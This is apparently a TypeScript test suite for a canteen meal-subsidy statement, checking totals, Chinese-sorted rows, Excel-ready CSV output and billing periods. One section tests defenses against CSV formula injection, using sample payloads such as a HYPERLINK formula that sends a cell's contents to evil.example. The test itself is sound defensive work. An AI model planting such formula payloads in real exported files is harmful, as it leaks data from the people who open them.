import fc from 'fast-check';
import { isTaken, orderStatuses } from '../../src/features/canteen/rules/canteen';
import { buildStatement, countedStatuses, countsNote, csvCell, isCounted, statementCsv, statementPeriod, type StatementAbout, type TakenMeal } from '../../src/features/canteen/rules/statement';
import type { SubsidyCategory } from '@yilin/contract';

const elders = [
  { elderId: 'e-wang', elderName: '王秀英' },
  { elderId: 'e-li', elderName: '李建国' },
  { elderId: 'e-zhang', elderName: '张桂兰' },
  { elderId: 'e-zhao', elderName: '赵德福' },
  { elderId: 'e-comma', elderName: '欧阳,"小"明' },
];
const category = fc.constantFrom<SubsidyCategory | null>(null, 'normal', 'dibao', 'tekun', 'disabled');

/** A month of taken meals: any elder, any category, prices in fen that need not be round yuan. */
const month = fc.array(
  fc.record({
    elder: fc.constantFrom(...elders),
    subsidyCategory: category,
    standardFen: fc.integer({ min: 0, max: 3000 }),
    paidShare: fc.double({ min: 0, max: 1, noNaN: true }),
  }).map(({ elder, subsidyCategory, standardFen, paidShare }): TakenMeal => {
    const priceFen = Math.floor(standardFen * paidShare);
    return { ...elder, subsidyCategory, priceFen, subsidyFen: standardFen - priceFen };
  }),
  { maxLength: 200 },
);

const sum = (values: number[]) => values.reduce((a, b) => a + b, 0);

describe('buildStatement: the monthly subsidy statement', () => {
  test('totals equal the sum of the meals, to the fen', () => {
    fc.assert(fc.property(month, (meals) => {
      const { totals } = buildStatement(meals);
      expect(totals).toEqual({ meals: meals.length, paidFen: sum(meals.map((m) => m.priceFen)), subsidyFen: sum(meals.map((m) => m.subsidyFen)) });
    }));
  });

  test('the per-category sums add up to the totals, and each category sums its own meals', () => {
    fc.assert(fc.property(month, (meals) => {
      const { byCategory, totals } = buildStatement(meals);
      expect(sum(byCategory.map((g) => g.meals))).toBe(totals.meals);
      expect(sum(byCategory.map((g) => g.paidFen))).toBe(totals.paidFen);
      expect(sum(byCategory.map((g) => g.subsidyFen))).toBe(totals.subsidyFen);
      for (const group of byCategory) {
        const own = meals.filter((m) => (m.subsidyCategory ?? 'none') === group.subsidyCategory);
        expect(group).toEqual({ subsidyCategory: group.subsidyCategory, meals: own.length, paidFen: sum(own.map((m) => m.priceFen)), subsidyFen: sum(own.map((m) => m.subsidyFen)) });
      }
      expect(new Set(byCategory.map((g) => g.subsidyCategory)).size).toBe(byCategory.length);
    }));
  });

  test('the per-elder rows add up to the totals, one row per elder and category, in Chinese name order', () => {
    fc.assert(fc.property(month, (meals) => {
      const { rows, totals } = buildStatement(meals);
      expect(sum(rows.map((r) => r.meals))).toBe(totals.meals);
      expect(sum(rows.map((r) => r.paidFen))).toBe(totals.paidFen);
      expect(sum(rows.map((r) => r.subsidyFen))).toBe(totals.subsidyFen);
      const keys = rows.map((r) => `${r.elderId}|${r.subsidyCategory ?? 'none'}`);
      expect(new Set(keys).size).toBe(rows.length);
      const names = rows.map((r) => r.elderName);
      expect(names).toEqual([...names].sort((a, b) => a.localeCompare(b, 'zh-CN')));
    }));
  });

  test('an empty month has zero totals and no rows', () => {
    expect(buildStatement([])).toEqual({ rows: [], byCategory: [], totals: { meals: 0, paidFen: 0, subsidyFen: 0 } });
  });

  test('an elder whose category was verified mid-month gets one row per category', () => {
    const statement = buildStatement([
      { elderId: 'e-zhou', elderName: '周淑芬', subsidyCategory: null, priceFen: 800, subsidyFen: 700 },
      { elderId: 'e-zhou', elderName: '周淑芬', subsidyCategory: 'dibao', priceFen: 800, subsidyFen: 700 },
      { elderId: 'e-zhou', elderName: '周淑芬', subsidyCategory: 'dibao', priceFen: 800, subsidyFen: 700 },
    ]);
    expect(statement.rows).toEqual([
      { elderId: 'e-zhou', elderName: '周淑芬', subsidyCategory: null, meals: 1, paidFen: 800, subsidyFen: 700 },
      { elderId: 'e-zhou', elderName: '周淑芬', subsidyCategory: 'dibao', meals: 2, paidFen: 1600, subsidyFen: 1400 },
    ]);
  });
});

/** Splits the CSV into cells, honouring quoted cells with commas and doubled quotes. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i];
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') { cell += '"'; i++; }
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; }
    else if (c === '\r' && csv[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; }
    else cell += c;
  }
  return rows;
}

const yuanPattern = /^\d+\.\d{2}$/;
const fenOf = (yuanText: string) => {
  const [whole, cents] = yuanText.split('.');
  return Number(whole) * 100 + Number(cents);
};

const header = ['长辈', '长辈编号', '补贴类别', '用餐次数', '自付金额（元）', '补贴金额（元）'];
/** November seen after it ended, and while it runs. */
const complete: StatementAbout = { title: '学院路 2026-11 助餐补贴结算单', from: '2026-11-01', to: '2026-11-30', asOf: '2026-11-30', complete: true, madeOn: '2026-12-02' };
const running: StatementAbout = { ...complete, title: '学院路 2026-11 助餐补贴结算单（截至 2026-11-18）', asOf: '2026-11-18', complete: false, madeOn: '2026-11-18' };
const csvOf = (meals: TakenMeal[], about: StatementAbout = complete) => statementCsv(buildStatement(meals), about);
/** The lines of the table: from the header to the 合计 line. */
const tableOf = (rows: string[][]) => rows.slice(0, rows.findIndex((r) => r[0] === '合计') + 1);

describe('statementCsv: the statement as a spreadsheet the county can open in Excel', () => {
  test('starts with the UTF-8 byte-order mark and ends each line with CRLF', () => {
    const csv = csvOf([]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/\n/);
  });

  test('the first line is the header row; the title, period, what is counted and the date made come after the table', () => {
    const rows = parseCsv(csvOf([{ elderId: 'e-wang', elderName: '王秀英', subsidyCategory: 'normal', priceFen: 800, subsidyFen: 700 }]).slice(1));
    expect(rows[0]).toEqual(header);
    const total = rows.findIndex((r) => r[0] === '合计');
    expect(rows.slice(total + 1)).toEqual([
      [''],
      ['结算单', '学院路 2026-11 助餐补贴结算单'],
      ['统计期间', '2026-11-01 至 2026-11-30（全月）'],
      ['统计口径', '只统计已取餐和已送达的餐次'],
      ['制表日期', '2026-12-02'],
    ]);
  });

  test('a month that has not ended says 截至 today after the table', () => {
    const rows = parseCsv(csvOf([], running).slice(1));
    expect(rows[0]).toEqual(header);
    expect(rows).toContainEqual(['统计期间', '截至 2026-11-18（本月尚未结束，数字还会变化）']);
    expect(rows).toContainEqual(['结算单', '学院路 2026-11 助餐补贴结算单（截至 2026-11-18）']);
    expect(rows).toContainEqual(['制表日期', '2026-11-18']);
  });

  test('amounts are yuan with two decimals, and each row carries the elder id', () => {
    const rows = parseCsv(csvOf([
      { elderId: 'e-wang', elderName: '王秀英', subsidyCategory: 'normal', priceFen: 800, subsidyFen: 5 },
      { elderId: 'e-wang', elderName: '王秀英', subsidyCategory: 'normal', priceFen: 1234, subsidyFen: 0 },
    ]).slice(1));
    expect(rows[1]).toEqual(['王秀英', 'e-wang', '普通', '2', '20.34', '0.05']);
    expect(tableOf(rows).at(-1)).toEqual(['合计', '', '', '2', '20.34', '0.05']);
  });

  test('two elders with one name are two rows told apart by their id', () => {
    const rows = parseCsv(csvOf([
      { elderId: 'e-wang-1', elderName: '王秀英', subsidyCategory: 'normal', priceFen: 800, subsidyFen: 700 },
      { elderId: 'e-wang-2', elderName: '王秀英', subsidyCategory: 'normal', priceFen: 800, subsidyFen: 700 },
    ]).slice(1));
    expect(rows.slice(1, 3)).toEqual([
      ['王秀英', 'e-wang-1', '普通', '1', '8.00', '7.00'],
      ['王秀英', 'e-wang-2', '普通', '1', '8.00', '7.00'],
    ]);
  });

  test('on any month, every amount is yuan with two decimals and the CSV totals equal the sum of the meals', () => {
    fc.assert(fc.property(month, (meals) => {
      const figures = buildStatement(meals);
      const csv = statementCsv(figures, complete);
      expect(csv.startsWith('\uFEFF')).toBe(true);
      const rows = parseCsv(csv.slice(1));
      expect(rows[0]).toEqual(header);
      const elderRows = rows.slice(1, 1 + figures.rows.length);
      expect(elderRows.map((r) => [r[0], r[1]])).toEqual(figures.rows.map((r) => [r.elderName, r.elderId]));
      for (const r of elderRows) {
        expect(r).toHaveLength(6);
        expect(r[4]).toMatch(yuanPattern);
        expect(r[5]).toMatch(yuanPattern);
      }
      const total = tableOf(rows).at(-1)!;
      expect(total[0]).toBe('合计');
      expect(Number(total[3])).toBe(meals.length);
      expect(fenOf(total[4])).toBe(sum(meals.map((m) => m.priceFen)));
      expect(fenOf(total[5])).toBe(sum(meals.map((m) => m.subsidyFen)));
      expect(sum(elderRows.map((r) => fenOf(r[4])))).toBe(fenOf(total[4]));
      expect(sum(elderRows.map((r) => fenOf(r[5])))).toBe(fenOf(total[5]));
    }));
  });

  test('a name with a comma or quotes stays in one cell', () => {
    const csv = csvOf([{ elderId: 'e-comma', elderName: '欧阳,"小"明', subsidyCategory: null, priceFen: 100, subsidyFen: 0 }]);
    expect(csv).toContain('"欧阳,""小""明",e-comma,未核实,1,1.00,0.00');
  });

  test('categories are named in Chinese, an unverified one as 未核实', () => {
    const rows = parseCsv(csvOf([
      { elderId: 'a', elderName: '甲', subsidyCategory: 'tekun', priceFen: 0, subsidyFen: 1500 },
      { elderId: 'b', elderName: '乙', subsidyCategory: null, priceFen: 1000, subsidyFen: 500 },
    ]).slice(1));
    const byCategoryStart = rows.findIndex((r) => r[0] === '按类别');
    expect(rows.slice(byCategoryStart + 1, byCategoryStart + 3).map((r) => r[0]).sort()).toEqual(['未核实', '特困'].sort());
  });
});

describe('statementCsv: formula injection (OWASP CSV injection)', () => {
  test.each([
    ['=HYPERLINK("http://evil.example","点我")', `"'=HYPERLINK(""http://evil.example"",""点我"")"`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('a cell starting with a formula character gets a leading apostrophe: %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  test.each([
    ['王\r秀英', '"王\r秀英"'],
    ['王\n秀英', '"王\n秀英"'],
    ['王,秀英', '"王,秀英"'],
    ['王"秀"英', '"王""秀""英"'],
    ['王秀英', '王秀英'],
    ['8.00', '8.00'],
    ['李=四', '李=四'],
  ])('a cell with CR, LF, a comma or a quote is quoted; others stay as they are: %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  test('an elder named like a formula is written as text, in one cell of its own row', () => {
    const name = '=HYPERLINK("http://evil.example?"&A1,"点我")';
    const csv = csvOf([{ elderId: 'e-evil', elderName: name, subsidyCategory: null, priceFen: 800, subsidyFen: 700 }]);
    const rows = parseCsv(csv.slice(1));
    expect(rows[1]).toEqual([`'${name}`, 'e-evil', '未核实', '1', '8.00', '7.00']);
  });

  const risky = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ',', '"', "'", ' ', '王', 'a', '1'), maxLength: 12 });

  test('whatever the names and title, no cell starts with a formula character and every cell reads back as written', () => {
    fc.assert(fc.property(fc.array(fc.record({ elderName: risky, elderId: risky }), { maxLength: 6 }), risky, (elders, centre) => {
      const meals = elders.map((e): TakenMeal => ({ ...e, subsidyCategory: null, priceFen: 800, subsidyFen: 700 }));
      const figures = buildStatement(meals);
      const rows = parseCsv(statementCsv(figures, { ...complete, title: centre }).slice(1));
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      const asWritten = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
      expect(rows.slice(1, 1 + figures.rows.length).map((r) => [r[0], r[1]])).toEqual(figures.rows.map((r) => [asWritten(r.elderName), asWritten(r.elderId)]));
      expect(rows.find((r) => r[0] === '结算单')).toEqual(['结算单', asWritten(centre)]);
    }));
  });
});

describe('what the statement counts and the period it covers', () => {
  test('served and delivered meals, the same as a taken order, said in Chinese', () => {
    expect([...countedStatuses]).toEqual(['served', 'delivered']);
    for (const status of orderStatuses) expect(isCounted(status)).toBe(isTaken(status));
    expect(countsNote).toBe('只统计已取餐和已送达的餐次');
  });

  test('a month that has ended is complete, as of its last day', () => {
    expect(statementPeriod('2026-11', '2026-12-01')).toEqual({ from: '2026-11-01', to: '2026-11-30', asOf: '2026-11-30', complete: true });
    expect(statementPeriod('2028-02', '2028-03-01')).toEqual({ from: '2028-02-01', to: '2028-02-29', asOf: '2028-02-29', complete: true });
    expect(statementPeriod('2026-12', '2027-06-15')).toEqual({ from: '2026-12-01', to: '2026-12-31', asOf: '2026-12-31', complete: true });
  });

  test('a month still running, even on its last day, is 截至 today and not complete', () => {
    expect(statementPeriod('2026-11', '2026-11-18')).toEqual({ from: '2026-11-01', to: '2026-11-30', asOf: '2026-11-18', complete: false });
    expect(statementPeriod('2026-11', '2026-11-30')).toEqual({ from: '2026-11-01', to: '2026-11-30', asOf: '2026-11-30', complete: false });
    expect(statementPeriod('2026-11', '2026-11-01')).toMatchObject({ asOf: '2026-11-01', complete: false });
  });

  test('a malformed month has no period', () => {
    for (const month of ['2026-13', '2026-00', '2026-1', '26-11', '2026-11-01', '']) expect(statementPeriod(month, '2026-11-18')).toBeUndefined();
  });
});
